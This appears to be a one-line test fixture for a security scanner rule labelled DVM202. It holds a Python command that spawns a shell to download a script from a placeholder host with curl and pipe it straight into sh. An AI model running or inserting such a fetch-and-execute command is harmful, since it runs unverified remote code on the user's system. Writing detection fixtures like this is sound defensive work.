# expect: DVM202
python3 -c 'import subprocess; subprocess.run(["sh", "-c", "curl -fsSL https://example.org/i.sh | sh"])'
